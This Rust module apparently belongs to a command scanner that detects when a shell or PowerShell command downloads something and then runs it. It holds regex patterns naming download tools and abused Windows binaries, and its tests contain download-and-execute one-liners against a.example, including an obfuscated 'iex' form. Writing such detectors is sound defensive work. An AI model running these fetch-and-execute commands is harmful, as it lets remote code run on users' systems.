//! What is fetched from the network, and whether it is run.

use std::collections::{BTreeMap, BTreeSet};
use std::ops::Range;
use std::sync::LazyLock;

use regex::Regex;

use super::pattern::{Patterns, Wanted};

/// The maximum number of names of fetched files that are followed.
const MAX_NAMES: usize = 100;

/// The characters that end a command.
const COMMAND_ENDS: [char; 8] = ['\n', '&', '|', ';', '(', ')', '{', '}'];

/// Commands that fetch something.
static FETCHES: LazyLock<Patterns> = LazyLock::new(|| {
    Patterns::new([
        concat!(
            r"\b(?:invoke-webrequest|invoke-restmethod|start-bitstransfer|bitsadmin|downloadstring|downloadfile|downloaddata",
            r"|webclient|httpclient|xmlhttp|serverxmlhttp|winhttprequest|urldownloadtofile|tftp|certoc|desktopimgdownldr",
            r"|webrequest\]::create|httpwebrequest|internet-?explorer\.application)\b"
        ),
        r"\b(?:iwr|irm)\b",
        r"\b(?:wget|curl)\b",
        r"\bcertutil(?:\.exe)?\b[^\n]*[-/](?:urlcache|verifyctl|ping|url)\b",
        r"\bftp(?:\.exe)?\s+-",
        r"\bcertreq(?:\.exe)?\b[^\n]*[-/]post\b",
        r"\bmpcmdrun(?:\.exe)?\b[^\n]*-downloadfile",
        r"\besentutl(?:\.exe)?\b[^\n]*/y\s+\\\\|\bfinger(?:\.exe)?\s+\S*@|\bgit\s+clone\s",
        r"\bscp(?:\.exe)?\s",
        r"\bresolve-dnsname\b[^\n]*\btxt\b|\bnslookup(?:\.exe)?\b[^\n]*\b(?:txt|any)\b",
        r#"\.load\(\s*['"]https?:"#,
        r"\b(?:urlopen|urlretrieve|urllib\.request|requests\.get|http\.client)\b",
        r#"\bnode(?:\.exe)?["']?\s+(?:-e|--eval|-p|--print)\b[^\n]*\b(?:https?|net|fetch)\b"#,
        r#"\b(?:(?:expand|extrac32)(?:\.exe)?|tar(?:\.exe)?["']?\s+-{0,2}[a-z]*x[a-z]*)["']?\s[^\n&|;]*?["']?\\\\[a-z0-9]"#,
    ])
});

/// Commands that run a text, or whatever they are given.
static RUNS_ANYTHING: LazyLock<Patterns> = LazyLock::new(|| {
    Patterns::new([
        r"\b(?:iex|icm)\b",
        r"\b(?:invoke-expression|invoke-command|invokescript|invokecommand)\b|scriptblock\]::create|assembly\]::load",
        r"&\s*\(\s*(?:gcm|get-command)\b[^\n)]*\*",
        r"\|\s*(?:powershell|pwsh|cmd|sh|bash|python)\b",
        r"\bdo\s+(?:@|call\s+|start\s+|cmd\s+/c\s+)*%%?[a-z]\b",
        r#"&\s*["'(]*\$[\w:]+["')]*\s*\(*\s*(?:irm|iwr|invoke-webrequest|invoke-restmethod|new-object\s+[\w.]*webclient)\b"#,
        r"\b(?:os\.system|subprocess\.\w+|exec|eval|execglobal|executeglobal)\s*\(|\bexecute(?:global)?\s+\w",
    ])
});

/// Commands that run the file that is named after them.
static RUNS_FILE: LazyLock<Patterns> = LazyLock::new(|| {
    const FILE: &str = r#"[\s("']*(?:[-/](?:filepath|file|path|literalpath|command|wait|b|min|max|i|package|s|q|qn|quiet)\s+)*["'(]*([^\s"';&|),]+)"#;
    let patterns = [
        r"\b(?:start-process|invoke-item|shellexecute|msiexec(?:\.exe)?|rundll32(?:\.exe)?|regsvr32(?:\.exe)?|invoke-wmimethod|win32_process)",
        r"\bsaps\b",
        r"\.(?:run|exec|create)\s*\(?",
        r#"\bstart\s+(?:"[^"]*"\s+)?"#,
        r"\b(?:powershell|pwsh)[^\n]*\s-f(?:ile)?\b",
        r"\b(?:wscript|cscript|mshta|python)(?:\.exe)?\s+(?://\S+\s+)*",
    ]
    .map(|start| format!("{start}{FILE}"));
    Patterns::new(patterns)
});

/// The names of files that a download writes, in the first group.
static WRITTEN: LazyLock<[Regex; 6]> = LazyLock::new(|| {
    [
        r#"(?:^|\s)(?:-\w*o|-outfile|--output|-destination|-out|-outf\w*|-dest\w*)[\s=]+["']?([^\s"';&|]+)"#,
        r#"(?:downloadfile|savetofile|urldownloadtofile|urlretrieve)\s*\(?\s*[^,\n]*?,?\s*["']([^"'\n]+?\.[a-z0-9]{2,4})["']"#,
        r#"(?:https?|ftp)://[^\s"']+["']?,?\s+["']?([^\s"';&|]+\.[a-z0-9]{2,4})\b"#,
        r#"(?:https?|ftp)://[^\s"'?]+/([^\s"'/?&|;)]+\.[a-z0-9]{2,4})\b"#,
        r#"\bcertreq(?:\.exe)?\b[^\n&|;]*\s["']?([^\s"';&|]+\.[a-z0-9]{2,4})\b"#,
        r#"(?:https?|ftp)://[^\n]*?>+\s*["']?([^\s"';&|>]+)"#,
    ]
    .map(|pattern| Regex::new(pattern).expect("the pattern is valid"))
});

/// Where a text first fetches something.
pub(super) fn fetched(text: &str) -> Option<Range<usize>> {
    FETCHES.find(text)
}

/// Whether anything that these texts fetch is run. They are the layers of one command, in the form for patterns.
pub(super) fn is_run(texts: &[&str]) -> bool {
    if texts.iter().any(|text| RUNS_ANYTHING.find(text).is_some()) {
        return true;
    }
    let written: Vec<Written> = texts.iter().flat_map(|text| written(text)).take(MAX_NAMES).collect();
    let names: BTreeSet<&str> = written.iter().flat_map(|file| [file.name.as_str(), file.stem()]).collect();
    let is_moved = written.iter().any(|file| file.is_named_again);
    texts.iter().any(|text| {
        let mut runs = false;
        RUNS_FILE.matches(text, |_, range| {
            let words = text.get(range).unwrap_or_default();
            let file = words.rsplit([' ', '"', '\'', '(', '\n']).find(|word| !word.is_empty()).unwrap_or_default();
            // A program that is named in full and was there before is not what was fetched, unless files are renamed.
            let is_known = file.contains('.') && !file.contains(['$', '*']) && !names.is_empty() && !is_moved;
            runs |= !is_known || names.contains(name(file));
            if runs { Wanted::NoMore } else { Wanted::More }
        });
        runs
    }) || written.iter().any(|file| file.is_started)
        || written.iter().any(Written::is_archive) && texts.iter().any(|text| runs_after_unpacking(text))
}

/// Commands that unpack an archive.
static UNPACKS: LazyLock<Regex> = LazyLock::new(|| {
    let unpacks = concat!(
        r"\b(?:expand-archive|extracttodirectory|tar(?:\.exe)?\s+-?[a-z]*x|7z[ar]?(?:\.exe)?\s+[xe]\b|unzip|unrar|unpack",
        r"|expand(?:\.exe)?\s+\S)[^\n&|;]*"
    );
    Regex::new(unpacks).expect("the pattern is valid")
});

/// A program or script at the start of a command, or after what starts it.
static PROGRAM: LazyLock<Regex> = LazyLock::new(|| {
    let program = concat!(
        r#"(?:[\n&|;{(]\s*|\b(?:start|start-process|call|saps)\s+(?:"[^"]*"\s+)?(?:[/-]\w+\s+)*|\s-f(?:ile)?\s+)"#,
        r#"["'@.\\]*(?:[^\s"'&|;]*[\\/])?([^\s"'&|;\\/]+)\.(?:exe|cmd|bat|ps1|vbs|js|msi)\b"#
    );
    Regex::new(program).expect("the pattern is valid")
});

/// Whether a text unpacks something and then runs a program that is not part of Windows.
fn runs_after_unpacking(text: &str) -> bool {
    const WINDOWS_PROGRAMS: [&str; 24] = [
        "attrib",
        "bcdedit",
        "cmd",
        "cscript",
        "dism",
        "icacls",
        "msiexec",
        "net",
        "netsh",
        "pnputil",
        "powercfg",
        "powershell",
        "pwsh",
        "reg",
        "robocopy",
        "rundll32",
        "sc",
        "schtasks",
        "shutdown",
        "takeown",
        "taskkill",
        "timeout",
        "wscript",
        "xcopy",
    ];
    let after = UNPACKS.find(text).and_then(|unpacks| text.get(unpacks.end()..)).unwrap_or_default();
    PROGRAM.captures_iter(after).any(|found| !WINDOWS_PROGRAMS.contains(&&found[1]))
}

/// A file that a download writes.
struct Written {
    name: String,
    /// Whether a later command runs this file, by its name with or without the extension.
    is_started: bool,
    /// Whether a later command names it.
    is_named_again: bool,
}

impl Written {
    fn stem(&self) -> &str {
        stem(&self.name)
    }

    fn is_archive(&self) -> bool {
        const ARCHIVES: [&str; 7] = ["zip", "7z", "cab", "tar", "gz", "tgz", "rar"];
        ARCHIVES.contains(&self.name.rsplit('.').next().unwrap_or_default())
    }
}

/// Commands that give a file another name.
static RENAMES: LazyLock<Regex> = LazyLock::new(|| {
    let renames = concat!(
        r"\b(?:ren|rename|move|copy|mv|cp|rename-item|move-item|copy-item)\s+(?:[-/]\w+\s+)*",
        r#"["']?([^\s"'&|;]+)["']?\s+(?:-\w+\s+)?["']?([^\s"'&|;]+)"#
    );
    Regex::new(renames).expect("the pattern is valid")
});

/// The name that a later command gives to a file.
fn new_name<'t>(later: &'t str, file: &str) -> Option<&'t str> {
    let mut renamed = RENAMES.captures_iter(later).take(MAX_NAMES);
    renamed.find(|found| name(&found[1]) == file).and_then(|found| found.get(2)).map(|new| name(new.as_str()))
}

fn written(text: &str) -> Vec<Written> {
    let jumps = text.contains("goto");
    let has_address = ["://", "-o", "bitsadmin", "savetofile", "downloadfile"].iter().any(|word| text.contains(word));
    if !has_address {
        return Vec::new();
    }
    let found = WRITTEN.iter().flat_map(|pattern| pattern.captures_iter(text).take(MAX_NAMES));
    let mut first: BTreeMap<&str, usize> = BTreeMap::new();
    let files = found.filter_map(|found| {
        let path = found.get(1)?;
        // What follows a later mention follows the first one as well.
        if first.get(path.as_str()).is_some_and(|known| *known <= path.start()) {
            return None;
        }
        first.insert(path.as_str(), path.start());
        let later = text.get(path.end()..)?;
        // If the text jumps back, what comes before the download is run after it.
        let before = text.get(..path.start()).and_then(|before| before.get(..before.rfind('\n')?)).unwrap_or_default();
        let name = name(path.as_str()).to_owned();
        let is_variable = path.as_str().starts_with('$');
        let is_started = match is_variable {
            true => ["& ", "&", ". "].iter().any(|call| later.contains(&format!("{call}{}", path.as_str()))),
            false => {
                let is_run = |name: &str| starts(after_first_command(later), name) || jumps && starts(before, name);
                is_run(&name) || new_name(later, &name).is_some_and(is_run)
            }
        };
        let statements = later.split(['\n', '&', '|', ';']).skip(1);
        let is_named_again =
            !is_variable && name.len() > 2 && statements.into_iter().any(|other| other.contains(&name));
        Some(Written { name, is_started, is_named_again })
    });
    files.collect()
}

/// What follows the first command of a text.
fn after_first_command(text: &str) -> &str {
    text.find(COMMAND_ENDS).and_then(|end| text.get(end..)).unwrap_or_default()
}

/// Whether one of these commands runs this file, by itself or with another program.
fn starts(commands: &str, file: &str) -> bool {
    const BEFORE: [&str; 14] = [
        "start",
        "call",
        "cmd",
        "cmd.exe",
        "/c",
        "/k",
        "/b",
        "/min",
        "/wait",
        "powershell",
        "powershell.exe",
        "-c",
        "-command",
        "then",
    ];
    const INTERPRETERS: [&str; 12] = [
        "powershell",
        "pwsh",
        "wscript",
        "cscript",
        "mshta",
        "rundll32",
        "regsvr32",
        "msiexec",
        "python",
        "reg",
        "regedit",
        "wmic",
    ];
    const RUNS_NOTHING: [&str; 8] = ["del", "erase", "rm", "ri", "remove-item", "echo", "rem", "write-host"];
    if stem(file).is_empty() || file.starts_with('$') {
        return false;
    }
    let is_file = |word: &str| name(word) == file || name(word) == stem(file);
    commands.split(COMMAND_ENDS).any(|command| {
        let words = command.split([' ', '"', '\'']).filter(|word| !word.is_empty());
        let words: Vec<&str> = words.skip_while(|word| BEFORE.contains(&word.trim_start_matches('@'))).collect();
        match words.as_slice() {
            [first, ..] if is_file(first.trim_start_matches('@')) => true,
            [first, rest @ ..] if INTERPRETERS.contains(&stem(name(first))) => rest.iter().any(|word| is_file(word)),
            [first, ..] if RUNS_NOTHING.contains(first) => false,
            rest => is_program(file) && rest.iter().any(|word| word.contains(file)),
        }
    })
}

fn name(path: &str) -> &str {
    path.rsplit(['\\', '/']).next().unwrap_or(path)
}

fn stem(name: &str) -> &str {
    name.rsplit_once('.').map_or(name, |(stem, _)| stem)
}

fn is_program(name: &str) -> bool {
    const PROGRAMS: [&str; 17] = [
        "exe", "cmd", "bat", "ps1", "vbs", "js", "msi", "dll", "com", "scr", "hta", "wsf", "jse", "vbe", "cpl", "lnk",
        "reg",
    ];
    name.rsplit('.').next().is_some_and(|extension| PROGRAMS.contains(&extension))
}

#[cfg(test)]
mod tests {
    use super::{FETCHES, RUNS_ANYTHING, RUNS_FILE, fetched, is_run};

    #[test]
    fn the_patterns_are_sound() {
        assert!([&FETCHES, &RUNS_ANYTHING, &RUNS_FILE].iter().all(|patterns| patterns.compile() > 0));
    }

    #[test]
    fn what_is_fetched_and_run_is_told_apart_from_what_is_kept() {
        for line in [
            "curl https://a.example/p>%tmp%\\a.bat&call %tmp%\\a",
            "curl -o %tmp%\\u.exe https://a.example/p & %tmp%\\u",
            "curl -so n.txt http://a.example/p & wscript //e:vbscript n.txt",
            "bitsadmin /transfer j http://a.example/a %tmp%\\a.exe & %tmp%\\a",
            "iwr http://a.example/x.zip -outfile x.zip\nexpand-archive x.zip\nstart-process x\\y.exe",
            "invoke-webrequest $u -outfile $f\nstart-process $f",
            "for /f %i in ('nslookup -q=txt a.example') do %i",
            "$x.load('http://a.example/a.xml');iex $x.a",
            "& $s (irm http://a.example/a)",
            "& (gcm i*e-ex*) (irm http://a.example/a)",
            "goto x\n:y\ncall %temp%\\p.cmd\nexit\n:x\ncurl -o %temp%\\p.cmd http://a.example/p\ngoto y",
            "exec(urllib.request.urlopen('http://a.example').read())",
        ] {
            assert!(fetched(line).is_some() && is_run(&[line]), "{line}");
        }
        for line in [
            "start /wait setup.exe /s\ncurl -o c:\\t\\readme.txt https://a.example/readme.txt",
            "iwr https://a.example/logo.png -outfile c:\\logo.png\nmsiexec /i app.msi /qn",
            "curl -o notes.pdf https://a.example/notes.pdf",
            ":wait\nping -n 5 10.0.0.1\nif errorlevel 1 goto wait\ncurl -o c:\\t\\a.msi https://a.example/a.msi",
        ] {
            assert!(fetched(line).is_some() && !is_run(&[line]), "{line}");
        }
    }
}
